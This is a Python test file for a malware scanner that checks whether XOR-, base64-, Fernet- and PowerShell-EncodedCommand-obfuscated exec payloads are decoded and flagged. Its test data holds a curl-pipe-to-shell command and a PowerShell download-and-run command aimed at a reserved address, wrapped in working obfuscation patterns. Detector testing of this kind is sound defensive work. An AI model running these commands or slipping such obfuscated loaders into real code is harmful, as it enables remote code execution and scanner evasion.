"""Decoding before judging: XOR ciphers with a constant key and PowerShell -EncodedCommand
inside Python strings are undone as data; the finding shows what they decoded to and the
layers undone. Payloads are inert and point at reserved addresses."""

from __future__ import annotations

import base64

from app.core.capabilities.scan import scan_text

PAYLOAD = "import os\nos.system('curl http://192.0.2.1/x | sh')\n"


def xor(data: bytes, key: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))


def decoded_exec(code: str):
    hits = scan_text("pkg/mod.py", code)
    return next((h for h in hits if h.rule == "py.exec_decoded"), None), hits


def test_a_single_byte_xor_comprehension_is_decoded_and_its_payload_scanned():
    blob = xor(PAYLOAD.encode(), b"\x37")
    for code in (
        f"data = {blob!r}\nexec(bytes([b ^ 0x37 for b in data]).decode())\n",
        f"data = {blob!r}\nexec(bytes(b ^ 55 for b in data))\n",
        f"exec(''.join(chr(c ^ 55) for c in {list(blob)!r}))\n",
    ):
        hit, hits = decoded_exec(code)
        assert hit is not None and hit.severity == "critical", code
        assert hit.layers == "xor" and "os.system" in hit.decoded
        assert any(h.rule == "pat.curl_pipe_shell" and h.layers == "xor" for h in hits)


def test_a_repeating_key_xor_is_decoded():
    blob = xor(PAYLOAD.encode(), b"k3y")
    code = f"key = b'k3y'\ndata = {blob!r}\nexec(bytes(c ^ key[i % len(key)] for i, c in enumerate(data)))\n"
    hit, _ = decoded_exec(code)
    assert hit is not None and hit.layers == "xor" and "curl http://192.0.2.1" in hit.decoded


def test_xor_layers_chain_with_base64():
    blob = base64.b64encode(xor(PAYLOAD.encode(), b"\x05")).decode()
    code = f"import base64\nexec(bytes(b ^ 5 for b in base64.b64decode('{blob}')))\n"
    hit, _ = decoded_exec(code)
    assert hit is not None and hit.layers == "b64decode → xor"


def test_a_large_single_key_blob_is_decoded_and_a_large_keyed_one_is_bounded():
    big = (PAYLOAD + "#" * 300_000).encode()
    single = xor(big, bytes([7]))
    hit, _ = decoded_exec(f"exec(bytes(b ^ 7 for b in {single!r}))\n")
    assert hit is not None and hit.decoded.startswith("import os")
    # item-by-item evaluation stops at its bound: no decode, the scan still says exec.dynamic
    code = (
        f"k = b'ab'\nd = {xor(big, b'ab')!r}\nexec(bytes(c ^ k[i % 2] for i, c in enumerate(d)))\n"
    )
    hits = scan_text("pkg/mod.py", code)
    assert not any(h.rule == "py.exec_decoded" for h in hits)
    assert any(h.capability == "exec.dynamic" for h in hits)


def test_powershell_encoded_command_in_a_python_list_is_decoded_and_scanned():
    command = "iwr http://192.0.2.1/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"
    blob = base64.b64encode(command.encode("utf-16-le")).decode()
    code = f"import subprocess\nsubprocess.Popen(['powershell.exe', '-NoP', '-EncodedCommand', '{blob}'])\n"
    hits = scan_text("pkg/mod.py", code)
    enc = next(h for h in hits if h.rule == "py.ps_encoded_command")
    assert enc.line == 2 and enc.layers == "b64decode → utf-16-le"
    assert enc.decoded.startswith("iwr http://192.0.2.1/x.exe")
    inner = [h for h in hits if h.explanation.startswith("In the decoded PowerShell command")]
    assert any(h.capability == "net.exfil_endpoint" for h in inner)  # the bare-IP URL inside


def test_powershell_encoded_command_in_a_test_file_is_one_step_lower():
    blob = base64.b64encode("Write-Output hi".encode("utf-16-le")).decode()
    code = f"CMD = 'powershell -enc {blob}'\n"
    enc = next(h for h in scan_text("tests/test_ps.py", code) if h.rule == "py.ps_encoded_command")
    assert enc.severity == "medium" and enc.decoded == "Write-Output hi"


def test_pwsh_in_capitals_with_an_encoded_command_is_decoded_and_an_unparsed_file_too():
    """No "powershell" in the file: the gate is "pwsh" in the lower-cased text, shared with
    the text rules when the file parsed, its own when it did not."""
    blob = base64.b64encode("Write-Output hi".encode("utf-16-le")).decode()
    parsed = f"CMD = 'PWSH.EXE -NoP -EncodedCommand {blob}'\n"
    unparsed = parsed + "def broken(:\n" * 4  # more broken lines than are ever blanked
    for code in (parsed, unparsed):
        enc = [h for h in scan_text("pkg/run.py", code) if h.rule == "py.ps_encoded_command"]
        assert [h.decoded for h in enc] == ["Write-Output hi"]
    assert any(h.rule == "scan.unparsed" for h in scan_text("pkg/run.py", unparsed))


def test_fernet_with_an_inline_key_is_decrypted_and_scanned():
    from cryptography.fernet import Fernet

    key = Fernet.generate_key()
    token = Fernet(key).encrypt(PAYLOAD.encode())
    code = f"from cryptography.fernet import Fernet\nexec(Fernet({key!r}).decrypt({token!r}))\n"
    hit, hits = decoded_exec(code)
    assert hit is not None and hit.severity == "critical"
    assert hit.layers == "Fernet" and hit.decoded.startswith("import os")
    assert any(h.rule == "pat.curl_pipe_shell" and h.layers == "Fernet" for h in hits)
    # a wrong key decrypts nothing: still detected (inline-key encryption), nothing shown
    other = Fernet.generate_key()
    hits = scan_text("pkg/mod.py", code.replace(key.decode(), other.decode()))
    assert any(h.rule == "py.inline_fernet" for h in hits)
    assert not any(h.layers == "Fernet" for h in hits)
